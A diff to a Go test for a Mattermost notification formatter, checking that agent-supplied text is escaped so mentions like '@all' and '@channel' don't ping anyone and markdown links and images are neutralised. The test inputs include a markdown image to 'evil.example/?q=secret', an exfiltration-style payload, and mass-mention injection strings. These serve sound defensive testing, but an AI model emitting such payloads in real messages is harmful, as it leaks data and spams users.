@@ -3,6 +3,7 @@ package notify
 import (
 	"encoding/json"
 	"net/http"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -46,10 +47,15 @@ func TestMattermost(t *testing.T) {
 		"Note: can be decided by sre  \nDeadline: auto-denied in 1 h (13:00:00 UTC) unless approved  \nProject: shop  \n" +
 		"Chain: dig  \n\n```\n{\"pod\":\"checkout\"}\n```\n\n" +
 		"- the agent says: It is stuck. " +
-		"`@all` \\[the docs](https://evil.example/) !\\[](https://evil.example/?q=secret)\n```\n" +
+		"@\u200ball \\[the docs](https://evil.example/) !\\[](https://evil.example/?q=secret)\n```\n" +
 		"\\[a](https://evil.example/)\n\n[Open the investigation](https://inquest.example.com/#/dig-1:ab)"
 	if diff := cmp.Diff(want, got); diff != "" {
 		t.Errorf("-want +got:\n%s", diff)
+	}
+	for _, text := range []string{"`run @all now`", "_@channel", "`@channel", "```\n@here\n```", "*@sysadmin*"} {
+		if got := mattermost(messageOf(reportEvent(text), now)); regexp.MustCompile(`@\w`).MatchString(got) {
+			t.Errorf("%q mentions people in %q", text, got)
+		}
 	}
 	for _, text := range []string{strings.Repeat("x", 100_000), strings.Repeat("😀 ", 50_000), strings.Repeat("[", 50_000)} {
 		if got := mattermost(messageOf(reportEvent(text), now)); len([]rune(got)) > 16383 {
